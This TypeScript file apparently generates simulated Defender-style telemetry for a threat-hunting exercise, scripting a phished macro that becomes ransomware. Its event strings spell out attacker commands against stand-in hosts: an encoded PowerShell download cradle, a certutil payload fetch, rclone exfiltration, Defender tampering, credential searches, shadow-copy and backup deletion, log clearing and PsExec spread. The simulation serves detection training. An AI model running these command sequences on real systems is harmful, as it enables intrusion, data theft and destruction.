// Story one: a remittance advice with a macro, a quiet day of discovery, and in the night the file server is encrypted.

import type { Account } from '../company/accounts.js';
import type { Device } from '../company/devices.js';
import { office } from '../company/network.js';
import { foreignProgram, hashesOf, type Program, program } from '../company/software.js';
import { Machine, profileOf } from '../machines/machine.js';
import type { Process } from '../machines/process.js';
import { defenderDeed } from '../noise/cloud.js';
import { documentName, projects } from '../noise/documents.js';
import { edgeOnWindows } from '../noise/user-agents.js';
import { hour, type Moment, minute, second } from '../timeline.js';
import type { PlannedAction, World } from '../world.js';
import { mailbox, type SentMessage } from '../writers/mail-writer.js';
import { encodeCommand, type Story, sessionAt } from './story.js';

const lure = 'Remittance_Advice_48213.docm';
const lureHashes = hashesOf('the macro document of story one');
const lureUrl = 'https://docs-remittance.example/d/48213/view?ref=onus';
const payloadUrl = 'http://cdn-docview.example/assets/fonts.bin';
const controlServer = { ip: '192.0.2.44', port: 443, url: 'cdn-docview.example' };
const dropBox = { ip: '192.0.2.91', port: 443, url: 'sync-vault.example' };
const oddExtension = 'quokka7';
const noteName = 'HOW_TO_RECOVER_FILES.txt';

const implant = foreignProgram('wpnprv.dll', 'C:\\Users\\Public\\Libraries', { originalName: 'wpnprv.dll' });
const finder = foreignProgram('AdFind.exe', 'C:\\Users\\Public\\Libraries', {
  company: 'www.joeware.net',
  product: 'AdFind',
  version: '1.57',
  originalName: 'AdFind.exe',
  description: 'AdFind',
});
const copier = foreignProgram('rclone.exe', 'C:\\ProgramData\\svc', {
  company: 'https://rclone.org',
  product: 'Rclone',
  version: '1.65.2',
  originalName: 'rclone.exe',
  description: 'Rclone',
});
const packer = foreignProgram('7za.exe', 'C:\\Users\\Public', {
  company: '7-Zip',
  product: '7-Zip',
  version: '23.01',
  originalName: '7za.exe',
  description: '7-Zip Standalone Console',
});
const locker = foreignProgram('x4k92lq.exe', 'C:\\ProgramData\\svc', { originalName: 'locker' });

export const phishedRansomware: Story = {
  title: 'A phished macro becomes ransomware (yesterday morning until last night)',
  summary: `Mail "Remittance advice 48213" with ${lure}; Word starts cmd.exe and powershell -enc; certutil fetches a library
that rundll32 runs and that calls ${controlServer.url}; discovery with whoami, net, nltest and AdFind; data leaves with
rclone; on the file server backups are deleted and files renamed to .${oddExtension}.
Hunt: EmailAttachmentInfo by SHA256, DeviceProcessEvents where InitiatingProcessFileName is winword.exe, vssadmin,
FileRenamed in DeviceFileEvents.`,
  needs: (company) => [company.desk('Finance', 1).device, company.desk('Finance', 2).device],
  plan(world): PlannedAction[] {
    const { timeline } = world;
    let beacon: Process | undefined;
    const running = (): Process => {
      if (!beacon) throw new Error('story: expected the implant to run, found that it was not started');
      return beacon;
    };
    return [
      { at: timeline.daysAgo(1, 8, 50), run: (at) => sendLure(world, at) },
      { at: timeline.daysAgo(1, 9, 14), run: (at) => (beacon = openLure(world, at)) },
      { at: timeline.daysAgo(1, 9, 40), run: (at) => callHome(world, at, running()) },
      { at: timeline.daysAgo(1, 10, 5), run: (at) => lookAround(world, at, running()) },
      { at: timeline.daysAgo(1, 13, 20), run: (at) => digIn(world, at, running()) },
      { at: timeline.daysAgo(1, 22, 40), run: (at) => crossOver(world, at, running()) },
      { at: timeline.daysAgo(0, 2, 10), run: (at) => encrypt(world, at) },
      { at: timeline.daysAgo(0, 7, 30), run: (at) => respond(world, at) },
    ];
  },
};

const victimOf = (world: World) => world.company.desk('Finance', 1);

function sendLure(world: World, at: Moment): void {
  const from = {
    address: 'accounts@stoneford-payments.example',
    name: 'Stoneford Payments',
    ip: '192.0.2.25',
    mailFrom: 'bounce@mailer-7.example',
  };
  const finance = world.company.department('Finance');
  const messages = finance.slice(0, 8).map((person, index) =>
    world.mail.deliver(at + index * second, {
      from,
      to: mailbox(person),
      subject: 'RE: Remittance advice 48213 - payment onus',
      direction: 'Inbound',
      authentication: 'fail',
      attachments: [{ name: lure, type: 'docm;macro', hashes: lureHashes, size: 91_648 }],
      urls: [lureUrl],
    }),
  );
  const message = (index: number): SentMessage => {
    const found = messages[index];
    if (!found) throw new Error(`story: expected message ${index}, found ${messages.length}`);
    return found;
  };
  const { person } = victimOf(world);
  const curious = world.company.desk('Finance', 2);
  const blocked = finance.indexOf(curious.person);
  world.mail.click(at + 21 * minute, {
    url: lureUrl,
    person,
    ip: office.ip,
    message: message(finance.indexOf(person)),
  });
  world.mail.click(at + 31 * minute, {
    url: lureUrl,
    person: curious.person,
    ip: office.ip,
    message: message(blocked),
    action: 'ClickBlocked',
    threatTypes: 'Malware',
  });
  for (const [index, sent] of messages.entries())
    if (index > 2) world.mail.remove(at + 4 * hour + index * second, sent, 'Malware ZAP', 'Malware');
  world.alerts.raise(at + 4 * hour, {
    title: 'Email messages containing malicious file removed after delivery',
    category: 'InitialAccess',
    severity: 'Informational',
    service: 'Microsoft Defender for Office 365',
    techniques: ['Phishing (T1566)'],
    account: person.account,
    message: message(finance.indexOf(person)),
    url: lureUrl,
  });
}

/** Outlook, Word, cmd, PowerShell, certutil, rundll32: returns the last one, which stays. */
function openLure(world: World, at: Moment): Process {
  const { device } = victimOf(world);
  const { machine, session } = sessionAt(world, device);
  const folder = `${profileOf(session.account)}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K7Q2M4ZT`;
  const outlook = session.open.get('OUTLOOK.EXE') ?? session.shell;
  machine.event(at - 3 * second, 'BrowserLaunchedToOpenUrl', outlook, { RemoteUrl: lureUrl });
  machine.file(at, outlook, { folder, name: lure, content: lureHashes, size: 91_648 });
  const word = machine.start(at + 4 * second, {
    parent: outlook,
    program: 'WINWORD.EXE',
    commandLine: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${folder}\\${lure}" /o ""`,
  });
  machine.load(at + 6 * second, word, 'VBE7.DLL');
  machine.load(at + 6 * second, word, 'mshtml.dll');
  const download = `$c=New-Object Net.WebClient;$c.DownloadString('http://${controlServer.url}/a')|IEX`;
  const powershellLine = `powershell.exe -nop -w hidden -enc ${encodeCommand(download)}`;
  const shell = machine.start(at + 41 * second, {
    parent: word,
    program: 'cmd.exe',
    commandLine: `cmd.exe /c ${powershellLine}`,
  });
  machine.event(at + 41 * second, 'AsrOfficeChildProcessAudited', word, Machine.targetColumns(shell), {
    IsAudit: true,
    RuleId: 'd4f940ab-401b-4efc-aadc-ad5f3c50688a',
    RuleLastModificationTime: '',
  });
  const powershell = machine.start(at + 42 * second, {
    parent: shell,
    program: 'powershell.exe',
    commandLine: powershellLine,
  });
  machine.load(at + 43 * second, powershell, 'System.Management.Automation.ni.dll');
  machine.load(at + 43 * second, powershell, 'amsi.dll');
  machine.event(at + 44 * second, 'AmsiScriptContent', powershell, {}, { ScriptContent: download });
  machine.event(at + 44 * second, 'PowerShellCommand', powershell, {}, { Command: 'New-Object' });
  machine.event(
    at + 44 * second,
    'DnsQueryResponse',
    machine.service('svchost.exe', 'svchost.exe -k NetworkService -p -s Dnscache'),
    {},
    { DnsQueryString: controlServer.url, DnsQueryResult: `["${controlServer.ip}"]` },
  );
  machine.connect(at + 45 * second, powershell, {
    to: { ...controlServer, port: 80, url: `http://${controlServer.url}/a` },
  });
  machine.connect(at + 45 * second, machine.service('ntoskrnl.exe'), {
    to: { ...controlServer, port: 80 },
    action: 'NetworkSignatureInspected',
    additional: {
      SignatureName: 'HTTP_Client',
      SignatureMatchedContent: 'GET /assets/fonts.exe HTTP/1.1',
      SamplePacketContent: [`GET /a HTTP/1.1\r\nHost: ${controlServer.url}`],
    },
  });
  const fetcher = machine.start(at + 52 * second, {
    parent: powershell,
    program: 'certutil.exe',
    commandLine: `certutil.exe -urlcache -split -f ${payloadUrl} ${implant.folder}\\${implant.fileName}`,
  });
  machine.connect(at + 53 * second, fetcher, { to: { ...controlServer, port: 80, url: payloadUrl } });
  machine.file(at + 55 * second, fetcher, {
    folder: implant.folder,
    name: implant.fileName,
    content: implant,
    size: implant.size,
    originUrl: payloadUrl,
    originIp: controlServer.ip,
  });
  const beacon = machine.start(at + minute, {
    parent: powershell,
    program: 'rundll32.exe',
    commandLine: `rundll32.exe ${implant.folder}\\${implant.fileName},GlobalOut`,
  });
  machine.load(at + minute + second, beacon, implant);
  world.alerts.raise(at + 3 * minute, {
    title: 'Suspicious PowerShell command line',
    category: 'Execution',
    severity: 'Medium',
    techniques: ['PowerShell (T1059.001)', 'Obfuscated Files or Information (T1027)'],
    device,
    account: session.account,
    process: powershell,
  });
  return beacon;
}

/** A call every few minutes until the night is over. */
function callHome(world: World, at: Moment, beacon: Process): void {
  const { device } = victimOf(world);
  const machine = world.machine(device);
  for (let call = at; call < at + 17 * hour; call += 5 * minute + machine.random.below(90) * second)
    machine.connect(call, beacon, { to: controlServer });
}

const discovery: readonly (readonly [program: string | Program, commandLine: string])[] = [
  ['whoami.exe', 'whoami /all'],
  ['hostname.exe', 'hostname'],
  ['systeminfo.exe', 'systeminfo'],
  ['ipconfig.exe', 'ipconfig /all'],
  ['arp.exe', 'arp -a'],
  ['route.exe', 'route print'],
  ['netstat.exe', 'netstat -nao'],
  ['tasklist.exe', 'tasklist /v'],
  ['net.exe', 'net view /all'],
  ['net.exe', 'net share'],
  ['net.exe', 'net localgroup "Administrators"'],
  ['net.exe', 'net user /domain'],
  ['net.exe', 'net group "Domain Admins" /domain'],
  ['net.exe', 'net group "Enterprise Admins" /domain'],
  ['net.exe', 'net accounts /domain'],
  ['net.exe', 'net user admin /domain'],
  ['net.exe', 'net time /domain'],
  ['nltest.exe', 'nltest /dclist:quillfen'],
  ['nltest.exe', 'nltest /domain_trusts /all_trusts'],
  ['nslookup.exe', 'nslookup -querytype=ALL -timeout=12 _ldap._tcp.dc._msdcs.QUILLFEN'],
  ['WMIC.exe', 'wmic /namespace:\\\\root\\securitycenter2 path AntiVirusProduct get displayname'],
  ['netsh.exe', 'netsh.exe wlan show profile name=Quillfen key=clear'],
  [finder, 'AdFind.exe -f "objectcategory=computer" -csv name operatingSystem'],
  [finder, 'AdFind.exe -sc trustdmp'],
  [finder, 'AdFind.exe -sc domainlist'],
  [finder, 'AdFind.exe -f (objectcategory=person) -csv'],
];

function lookAround(world: World, at: Moment, beacon: Process): void {
  const { device, person } = victimOf(world);
  const machine = world.machine(device);
  machine.file(at - second, beacon, {
    folder: finder.folder,
    name: finder.fileName,
    content: finder,
    size: finder.size,
  });
  const shell = machine.start(at, {
    parent: beacon,
    program: 'cmd.exe',
    commandLine: 'C:\\Windows\\system32\\cmd.exe',
  });
  const recon = `powershell.exe -nop -enc ${encodeCommand('whoami; net user; Get-ADComputer -Filter * | select Name; systeminfo')}`;
  machine.start(at + second, { parent: shell, program: 'powershell.exe', commandLine: recon });
  let moment = at;
  for (const [file, commandLine] of discovery) {
    moment += machine.random.between(4, 11) * second;
    const tool = machine.start(moment, { parent: shell, program: file, commandLine });
    if (file === 'net.exe')
      machine.start(moment, {
        parent: tool,
        program: 'net1.exe',
        commandLine: commandLine.replace('net ', 'C:\\Windows\\system32\\net1 '),
      });
    if (file === finder)
      machine.connect(moment + second, tool, {
        to: { ip: world.company.server('domain-controller').ip, port: 389, url: 'qf-dc-01.quillfen.example' },
      });
  }
  for (const [type, target, query] of [
    ['QueryGroup', 'Domain Admins', '(&(objectClass=group)(cn=Domain Admins))'],
    ['QueryGroup', 'Enterprise Admins', '(&(objectClass=group)(cn=Enterprise Admins))'],
    ['EnumerateUsers', 'All users', '(objectcategory=person)'],
    ['AllGroupPolicies', 'Group policies', '(objectClass=groupPolicyContainer)'],
    ['AllTrustedDomains', 'Trusts', '(objectClass=trustedDomain)'],
  ] as const)
    world.identity.query(moment + second, {
      by: person.account,
      from: device,
      to: world.company.server('domain-controller'),
      type,
      target,
      query,
    });
  world.alerts.raise(moment + 5 * minute, {
    title: 'Suspicious sequence of exploration activities',
    category: 'Discovery',
    severity: 'Low',
    techniques: ['Account Discovery (T1087)', 'Domain Trust Discovery (T1482)'],
    device,
    account: person.account,
    process: shell,
  });
}

/** Persistence, a blinded antivirus, injected code, and the password of the backup service. */
function digIn(world: World, at: Moment, beacon: Process): void {
  const { device, person } = victimOf(world);
  const machine = world.machine(device);
  const run = `rundll32.exe ${implant.folder}\\${implant.fileName},GlobalOut`;
  machine.registry(at, beacon, {
    key: `HKEY_CURRENT_USER\\${person.account.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`,
    name: 'PushNotify',
    data: run,
  });
  const task = `${profileOf(person.account)}\\AppData\\Roaming\\push\\update.vbs`;
  machine.start(at + 20 * second, {
    parent: beacon,
    program: 'schtasks.exe',
    commandLine: `schtasks /create /sc minute /mo 30 /tn PushNotify /tr "wscript.exe ${task}" /f`,
  });
  machine.file(at + 21 * second, beacon, {
    folder: `${profileOf(person.account)}\\AppData\\Roaming\\push`,
    name: 'update.vbs',
    size: 2114,
  });
  machine.event(
    at + 22 * second,
    'ScheduledTaskCreated',
    machine.service('svchost.exe', 'svchost.exe -k netsvcs -p -s Schedule'),
    { AccountName: person.account.name, AccountSid: person.account.sid },
    {
      TaskName: '\\PushNotify',
      TaskContent: `<Exec><Command>wscript.exe</Command><Arguments>${task}</Arguments></Exec>`,
      SubjectUserSid: person.account.sid,
    },
  );
  const shell = machine.start(at + 2 * minute, {
    parent: beacon,
    program: 'cmd.exe',
    commandLine: 'cmd.exe',
    integrity: 'High',
    elevation: 'TokenElevationTypeFull',
  });
  machine.start(at + 2 * minute + second, {
    parent: shell,
    program: 'powershell.exe',
    commandLine: 'powershell.exe -command "Set-MpPreference -DisableRealtimeMonitoring $true"',
  });
  machine.start(at + 2 * minute + 3 * second, {
    parent: shell,
    program: 'powershell.exe',
    commandLine: 'powershell.exe -command "Set-MpPreference -EnableControlledFolderAccess Disabled"',
  });
  machine.event(
    at + 2 * minute + 4 * second,
    'TamperingAttempt',
    shell,
    {},
    {
      TamperingAction: 'RegistryModification',
      Status: 'Ignored',
      Target: 'DisableRealtimeMonitoring',
      OriginalValue: '0',
      TamperingAttemptedValue: '1',
    },
  );
  machine.registry(at + 2 * minute + 5 * second, shell, {
    key: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender',
    name: 'DisableAntiSpyware',
    type: 'Dword',
    data: '1',
    previous: '0',
  });
  const target = machine.session?.shell ?? beacon;
  machine.event(at + 5 * minute, 'CreateRemoteThreadApiCall', beacon, Machine.targetColumns(target), {
    TargetMemoryOffset: '0x1f0000',
  });
  machine.event(
    at + 5 * minute + second,
    'NtAllocateVirtualMemoryRemoteApiCall',
    beacon,
    Machine.targetColumns(target),
    { Protection: 'PAGE_EXECUTE_READWRITE' },
  );
  machine.event(
    at + 6 * minute,
    'NamedPipeEvent',
    beacon,
    {},
    {
      PipeName: '\\Device\\NamedPipe\\msagent_3f',
      FileOperation: 'File created',
      NamedPipeEnd: 'Server',
      RemoteClientsAccess: 'AcceptRemote',
    },
  );
  // The injected code runs on in a host process without arguments, and tries its neighbours.
  const host = machine.start(at + 7 * minute, { parent: beacon, program: 'rundll32.exe', commandLine: 'rundll32.exe' });
  for (let neighbour = 10; neighbour < 20; neighbour++)
    machine.connect(at + 8 * minute + neighbour * second, host, {
      to: { ip: `10.20.1.${neighbour}`, port: 445, url: '' },
    });
  const search = machine.start(at + 9 * minute, {
    parent: shell,
    program: 'findstr.exe',
    commandLine: 'findstr /si password P:\\*.txt P:\\*.ini P:\\*.config',
  });
  machine.file(at + 9 * minute + second, search, {
    action: 'FileModified',
    folder: 'P:\\Scripts\\old',
    name: 'rowan-backup.config',
    content: 'the backup configuration',
  });
  world.alerts.raise(at + 10 * minute, {
    title: 'Suspicious Task Scheduler activity',
    category: 'Persistence',
    severity: 'Medium',
    techniques: ['Scheduled Task (T1053.005)'],
    device,
    account: person.account,
    process: shell,
  });
}

/** By remote desktop to the file server with the backup account; data leaves, then everything is made ready. */
function crossOver(world: World, at: Moment, beacon: Process): void {
  const { device } = victimOf(world);
  const origin = world.machine(device);
  const server = world.machine(world.company.server('file-server'));
  const account = world.company.services.backup;
  const client = origin.start(at, {
    parent: beacon,
    program: 'mstsc.exe',
    commandLine: `mstsc.exe /v:${server.device.ip} /restrictedAdmin`,
  });
  origin.connect(at + second, client, { to: { ip: server.device.ip, port: 3389, url: '' } });
  const remote = { ip: device.ip, device: device.host };
  server.connect(at + second, server.service('svchost.exe', 'svchost.exe -k termsvcs -s TermService'), {
    action: 'InboundConnectionAccepted',
    to: { ip: device.ip, port: 51_877, url: '' },
    localPort: 3389,
  });
  const logonId = server.logon(at + 4 * second, {
    account,
    type: 'RemoteInteractive',
    protocol: 'NTLM',
    from: remote,
    localAdmin: true,
  });
  world.identity.logon(at + 4 * second, {
    account,
    from: device,
    to: server.device,
    type: 'Remote desktop',
    protocol: 'Ntlm',
  });
  const shell = server.start(at + 8 * second, {
    parent: server.service('winlogon.exe'),
    program: 'explorer.exe',
    commandLine: 'C:\\Windows\\Explorer.EXE',
    account,
    logonId,
    sessionId: 3,
    integrity: 'High',
    elevation: 'TokenElevationTypeFull',
    remote,
  });
  const console = server.start(at + 2 * minute, {
    parent: shell,
    program: 'cmd.exe',
    commandLine: '"C:\\Windows\\system32\\cmd.exe"',
  });
  server.file(at + 3 * minute, shell, {
    folder: packer.folder,
    name: packer.fileName,
    content: packer,
    size: packer.size,
  });
  const pack = server.start(at + 5 * minute, {
    parent: console,
    program: packer,
    commandLine: '7za.exe a C:\\Users\\Public\\1.7z D:\\Shares\\Projects\\* -pQ9vTe2!x -mhe',
  });
  server.file(at + 31 * minute, pack, { folder: 'C:\\Users\\Public', name: '1.7z', size: 4_812_774_400 });
  server.file(at + 32 * minute, shell, {
    folder: copier.folder,
    name: copier.fileName,
    content: copier,
    size: copier.size,
  });
  const copy = server.start(at + 33 * minute, {
    parent: console,
    program: copier,
    commandLine: 'rclone.exe copy C:\\Users\\Public\\1.7z vault:q --transfers 8 --no-check-certificate',
  });
  for (let part = 0; part < 24; part++) server.connect(at + (33 + part) * minute, copy, { to: dropBox });
  world.alerts.raise(at + hour, {
    title: 'Suspicious file copy to an external service',
    category: 'Exfiltration',
    severity: 'Medium',
    techniques: ['Exfiltration to Cloud Storage (T1567.002)'],
    device: server.device,
    account,
    process: copy,
    ip: dropBox.ip,
  });
}

const stoppedServices = [
  'MSSQLSERVER',
  'SQLSERVERAGENT',
  'SQLWriter',
  'RowanBackupAgent',
  'RowanBackupService',
  'VSS',
  'wbengine',
  'MSExchangeIS',
  'SDRSVC',
  'DFSR',
  'Spooler',
  'swprv',
  'MSSQLFDLauncher',
  'SQLBrowser',
  'MSSQLServerOLAPService',
  'ReportServer',
  'MSExchangeSA',
  'MSExchangeTransport',
  'IISADMIN',
  'W3SVC',
  'RowanCatalogSvc',
  'FontCache',
];
const killedPrograms = [
  'sqlservr.exe',
  'sqlagent.exe',
  'sqlwriter.exe',
  'excel.exe',
  'winword.exe',
  'outlook.exe',
  'onenote.exe',
  'thebat.exe',
  'mydesktopqos.exe',
  'ocssd.exe',
  'dbsnmp.exe',
  'synctime.exe',
];
const clearedLogs = [
  'System',
  'Security',
  'Application',
  'Setup',
  'ForwardedEvents',
  'Windows PowerShell',
  'Microsoft-Windows-PowerShell/Operational',
  'Microsoft-Windows-TaskScheduler/Operational',
  'Microsoft-Windows-Windows Defender/Operational',
  'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational',
  'Microsoft-Windows-Sysmon/Operational',
  'Microsoft-Windows-WMI-Activity/Operational',
];

const preparation: readonly (readonly [program: string, commandLine: string])[] = [
  ...stoppedServices.map((name) => ['net.exe', `net stop "${name}" /y`] as const),
  ...stoppedServices.map((name) => ['sc.exe', `sc config "${name}" start= disabled`] as const),
  ...killedPrograms.map((name) => ['taskkill.exe', `taskkill /f /im ${name}`] as const),
  [
    'taskkill.exe',
    `taskkill /f ${['sqlservr', 'sqlagent', 'sqlwriter', 'sqlbrowser', 'msftesql', 'sqlceip', 'sqlmangr', 'mysqld', 'mysqld-nt', 'sqlservr2', 'pgsql'].map((name) => `/im ${name}.exe`).join(' ')}`,
  ],
  ['vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet'],
  ['WMIC.exe', 'wmic.exe shadowcopy delete /nointeractive'],
  ['wbadmin.exe', 'wbadmin delete catalog -quiet'],
  ['wbadmin.exe', 'wbadmin delete systemstatebackup -keepversions:0'],
  ['bcdedit.exe', 'bcdedit /set {default} recoveryenabled no'],
  ['bcdedit.exe', 'bcdedit /set {default} bootstatuspolicy ignoreallfailures'],
  ['schtasks.exe', 'schtasks.exe /change /TN "\\Microsoft\\Windows\\SystemRestore\\SR" /disable'],
  ['fsutil.exe', 'fsutil usn deletejournal /D C:'],
  ['cipher.exe', 'cipher /w:C:'],
  ['cipher.exe', 'cipher /w:D:'],
  ['reg.exe', 'reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\FVE /v EnableBDEWithNoTPM /t REG_DWORD /d 1 /f'],
];

function encrypt(world: World, at: Moment): void {
  const server = world.machine(world.company.server('file-server'));
  const account = world.company.services.backup;
  const console = server.start(at, {
    parent: server.service('services.exe'),
    program: 'cmd.exe',
    commandLine: 'cmd.exe /c C:\\Windows\\Temp\\go.bat',
    account,
    integrity: 'High',
    elevation: 'TokenElevationTypeFull',
  });
  let moment = at;
  for (const [file, commandLine] of preparation) {
    moment += file === 'cipher.exe' ? second : Math.floor((0.4 + server.random.next()) * second);
    server.start(moment, { parent: console, program: file, commandLine });
  }
  world.alerts.raise(moment, {
    title: 'File backups were deleted',
    category: 'Impact',
    severity: 'Medium',
    techniques: ['Inhibit System Recovery (T1490)'],
    device: server.device,
    account,
    process: console,
  });
  moment += 40 * second;
  server.file(moment, console, { folder: locker.folder, name: locker.fileName, content: locker, size: locker.size });
  const process = server.start(moment + 2 * second, {
    parent: console,
    program: locker,
    commandLine: `"${locker.folder}\\${locker.fileName}" -q -s -p D:\\Shares`,
  });
  moment = renameFiles(server, process, moment + 5 * second, 'D:\\Shares\\Projects', 620);
  server.event(
    moment,
    'AsrRansomwareAudited',
    process,
    {
      ...Machine.fileColumns(locker, account),
      AccountName: account.name,
      AccountDomain: account.domain,
      AccountSid: account.sid,
    },
    { IsAudit: true, RuleId: 'c1db55ab-c21a-4637-bb3f-a12568109d35' },
  );
  server.event(moment, 'ControlledFolderAccessViolationAudited', process, { FolderPath: 'D:\\Shares' });
  world.alerts.raise(moment + minute, {
    title: 'Ransomware behavior detected in the file system',
    category: 'Ransomware',
    severity: 'High',
    techniques: ['Data Encrypted for Impact (T1486)'],
    device: server.device,
    account,
    process,
    file: locker,
  });
  for (const [index, target] of spreadTargets(world).entries())
    spread(world, moment + (index + 1) * 3 * minute, server, console, target, account);
  for (const [index, log] of clearedLogs.entries())
    server.start(moment + 20 * minute + index * second, {
      parent: console,
      program: 'wevtutil.exe',
      commandLine: `wevtutil.exe cl "${log}"`,
    });
  server.event(moment + 20 * minute + second, 'SecurityLogCleared', console, {
    AccountName: account.name,
    AccountSid: account.sid,
  });
  world.alerts.raise(moment + 21 * minute, {
    title: 'Event log was cleared',
    category: 'DefenseEvasion',
    severity: 'Medium',
    techniques: ['Clear Windows Event Logs (T1070.001)'],
    device: server.device,
    account,
    process: console,
  });
}

function spreadTargets(world: World): readonly Device[] {
  return [world.company.server('database-server'), world.company.server('print-server'), victimOf(world).device];
}

/** The locker goes to another computer through PsExec. */
function spread(world: World, at: Moment, from: Machine, console: Process, target: Device, account: Account): void {
  const there = world.machine(target);
  const tool = from.start(at, {
    parent: console,
    program: 'PsExec.exe',
    commandLine: `psexec.exe -accepteula -d -s \\\\${target.host} -c ${locker.folder}\\${locker.fileName}`,
  });
  from.connect(at + second, tool, { to: { ip: target.ip, port: 445, url: target.name } });
  there.connect(at + second, there.service('ntoskrnl.exe'), {
    action: 'InboundConnectionAccepted',
    to: { ip: from.device.ip, port: 50_112, url: '' },
    localPort: 445,
  });
  there.logon(at + 2 * second, {
    account,
    type: 'Network',
    protocol: 'NTLM',
    from: { ip: from.device.ip, device: from.device.host },
    localAdmin: true,
  });
  world.identity.change(at + 2 * second, {
    action: 'SMB file copy',
    by: account,
    from: from.device,
    on: target,
    protocol: 'Smb',
    additional: { Count: 1, FilePath: `\\\\${target.host}\\ADMIN$`, FileName: locker.fileName },
  });
  const service = program('PSEXESVC.exe');
  there.file(at + 2 * second, there.service('ntoskrnl.exe'), {
    folder: service.folder,
    name: service.fileName,
    content: service,
    size: service.size,
    request: { account, ip: from.device.ip, share: 'ADMIN$' },
  });
  there.file(at + 3 * second, there.service('ntoskrnl.exe'), {
    folder: 'C:\\Windows',
    name: locker.fileName,
    content: locker,
    size: locker.size,
    request: { account, ip: from.device.ip, share: 'ADMIN$' },
  });
  there.event(
    at + 3 * second,
    'ServiceInstalled',
    there.service('services.exe'),
    Machine.fileColumns(service, account),
    { ServiceName: 'PSEXESVC', ServiceAccount: 'LocalSystem', ServiceStartType: '3' },
  );
  const runner = there.start(at + 4 * second, {
    parent: there.service('services.exe'),
    program: service,
    commandLine: 'C:\\Windows\\PSEXESVC.exe',
  });
  const process = there.start(at + 5 * second, {
    parent: runner,
    program: { ...locker, folder: 'C:\\Windows' },
    commandLine: `"C:\\Windows\\${locker.fileName}"`,
  });
  renameFiles(
    there,
    process,
    at + 6 * second,
    target.owner ? `${profileOf(target.owner.account)}\\Documents` : 'D:\\Data',
    140,
  );
  world.alerts.raise(at + minute, {
    title: 'File dropped and launched from remote location',
    category: 'LateralMovement',
    severity: 'Medium',
    techniques: ['SMB/Windows Admin Shares (T1021.002)'],
    device: target,
    account,
    process,
    file: locker,
  });
}

/** Renames files and leaves a note in every folder; returns when it was done. */
function renameFiles(machine: Machine, process: Process, at: Moment, root: string, count: number): Moment {
  let moment = at;
  for (let index = 0; index < count; index++) {
    moment += Math.floor((0.05 + machine.random.next() * 0.3) * second);
    const folder = `${root}\\${projects[index % projects.length] ?? ''}`;
    const name = documentName(machine.random);
    machine.file(moment, process, {
      action: 'FileRenamed',
      folder,
      name: `${name}.${oddExtension}`,
      previousName: name,
    });
    if (index < projects.length)
      machine.file(moment, process, { folder, name: noteName, content: 'the ransom note', size: 2_417 });
  }
  return moment;
}

function respond(world: World, at: Moment): void {
  const admin = world.company.department('It Admins')[0];
  if (!admin) throw new Error('story: expected someone in IT, found nobody');
  const account = admin.administrator ?? admin.account;
  for (const [index, device] of [...spreadTargets(world), world.company.server('file-server')].entries())
    world.cloud.activity(at + index * 2 * minute, {
      ...defenderDeed('IsolateDevice', {
        DeviceName: device.name,
        ActionComment: 'Encrypted files found',
        ActionScope: 'Full',
      }),
      account,
      place: office,
      userAgent: edgeOnWindows,
    });
  world.cloud.activity(at + 20 * minute, {
    service: 'office',
    action: 'Disable account.',
    admin: true,
    account,
    place: office,
    userAgent: edgeOnWindows,
    raw: { ObjectId: world.company.services.backup.upn },
  });
  world.cloud.activity(at + 3 * hour, {
    ...defenderDeed('RunAntiVirusScan', {
      DeviceName: victimOf(world).device.name,
      ActionComment: 'After isolation',
      ActionScope: 'Full',
    }),
    account,
    place: office,
  });
  world.cloud.activity(at + 7 * hour, {
    ...defenderDeed('ReleaseFromIsolation', {
      DeviceName: world.company.server('print-server').name,
      ActionComment: 'Rebuilt',
    }),
    account,
    place: office,
  });
}

/** Moments and names that tests and demonstrations refer to. */
export const ransomwareFacts = { lure, lureHashes, oddExtension, noteName, controlServer } as const;
